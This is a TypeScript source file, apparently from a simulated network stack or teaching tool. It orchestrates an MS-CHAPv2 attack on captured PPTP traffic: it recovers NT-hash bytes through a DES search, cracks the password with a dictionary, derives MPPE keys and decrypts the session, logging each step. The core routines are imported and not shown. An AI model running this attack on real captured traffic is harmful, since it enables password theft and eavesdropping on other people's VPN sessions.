/**
 * `crack mschapv2` on a tap: the attack of src/stack/pptp/mschapv2_crack.ts run on the GRE frames the
 * tap recorded, each step logged with what it cost, ending with the session's traffic in clear.
 */
import {
  decryptSession,
  dictionaryAttack,
  findHandshake,
  lastTwoHashBytes,
} from "../stack/pptp/mschapv2_crack.ts";
import { toHex } from "../crypto/index.ts";
import { formatIp } from "../wire/addr.ts";
import type { Device } from "./device.ts";

/** Runs the attack over `frames` (IPv4 datagrams the tap saw) with `words` as the dictionary. */
export function crackMsChapV2(tap: Device, frames: readonly Uint8Array[], words: readonly string[]): void {
  const log = (summary: string, detail?: Record<string, unknown>) =>
    tap.log(summary, { tool: "crack", ...detail });
  const h = findHandshake(frames);
  if (!h) return log("crack: no MS-CHAPv2 Challenge and Response in the capture yet");
  log(
    `crack: captured MS-CHAPv2 of user ${h.user} (${formatIp(h.client)} → ${
      formatIp(h.server)
    }): challenges and ` +
      `NT-Response ${toHex(h.ntResponse)}; the challenge hash is SHA-1 of what was seen, so only DES is left`,
  );
  const tail = lastTwoHashBytes(h);
  if (!tail) {
    return log("crack: no key of the form ?? ?? 00 00 00 00 00 fits the third DES block: not MS-CHAPv2?");
  }
  log(
    `crack: third DES key has 2 unknown bytes: found NT hash bytes 15-16 = ${toHex(tail.bytes)} after ` +
      `${tail.tries} of 65536 DES tries`,
    { step: 1, tail: toHex(tail.bytes), tries: tail.tries },
  );
  log(
    "crack: DES keys 1 and 2 are 2^56 each (crack.sh's one-day search); a chosen password is quicker: the dictionary",
  );
  const found = dictionaryAttack(h, tail.bytes, words);
  if (!found) {
    return log(
      `crack: none of the ${words.length} dictionary words fits; a strong password leaves only the 2^56 DES search`,
      { step: 2, words: words.length },
    );
  }
  log(
    `crack: password of ${h.user} is "${found.password}": NT hash ${
      toHex(found.hash)
    } (of ${words.length} words, ` +
      `${found.checked} ended in ${toHex(tail.bytes)} and needed the full check)`,
    { step: 2, password: found.password, hash: toHex(found.hash) },
  );
  const session = decryptSession(h, found.hash, frames);
  log(
    `crack: MPPE start keys from the NT hash (RFC 3079): client→server ${session.keys.clientToServer}, ` +
      `server→client ${session.keys.serverToClient}`,
    { step: 3, ...session.keys },
  );
  for (const line of session.packets) log(`crack: decrypted ${line}`, { step: 3, decrypted: true });
  log(`crack: ${session.packets.length} MPPE packets read in clear`, {
    step: 3,
    decrypted: session.packets.length,
  });
}
